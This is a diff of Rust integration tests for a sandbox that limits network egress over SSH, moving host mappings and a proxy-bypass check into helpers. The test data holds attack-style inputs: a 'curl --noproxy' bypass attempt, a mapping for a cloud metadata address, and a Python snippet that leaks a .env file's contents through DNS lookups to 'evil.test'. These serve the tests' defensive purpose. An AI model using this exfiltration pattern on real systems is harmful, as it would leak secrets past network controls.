@@ -17,16 +17,7 @@ pub(crate) async fn brokered_ssh() -> Option<(Session, std::path::PathBuf)> {
     let (t, mut s) = ssh_fixture()?;
     let name = format!("ws-egress-{}", rand_u64());
     s.sandbox.workspace = Some(format!("~/{name}"));
-    for h in ["registry.test", "evil.test", "sneaky.test"] {
-        s.sandbox
-            .egress
-            .hosts
-            .insert(h.into(), "127.0.0.1".parse().unwrap());
-    }
-    s.sandbox
-        .egress
-        .hosts
-        .insert("meta.test".into(), "169.254.169.254".parse().unwrap());
+    crate::egress::map_test_hosts(&mut s.sandbox.egress);
     let config = Session::builder().engine(policies()).build().unwrap();
     let session = Session::ssh(&t, &s, config).await.unwrap();
     Some((session, ssh_home(&t.user).join(name)))
@@ -70,12 +61,7 @@ async fn ssh_listed_hosts_are_reached_through_the_helpers_broker_and_others_refu
         assert!(d.policies.contains(&policy.to_string()), "{name}: {d:?}");
     }
     // Around the proxy there is no way out: no route, no resolver.
-    let r = run(
-        &s,
-        &format!("curl -sS --noproxy '*' http://127.0.0.1:{port}/"),
-    )
-    .await;
-    assert_ne!(r.exit_code, Some(0), "{r:?}");
+    crate::egress::no_way_around_the_proxy(&s, port).await;
     std::fs::write(
         ws.join("dns.py"),
         "import socket\nsocket.getaddrinfo(open('.env').read().strip() + '.evil.test', 80)\n",
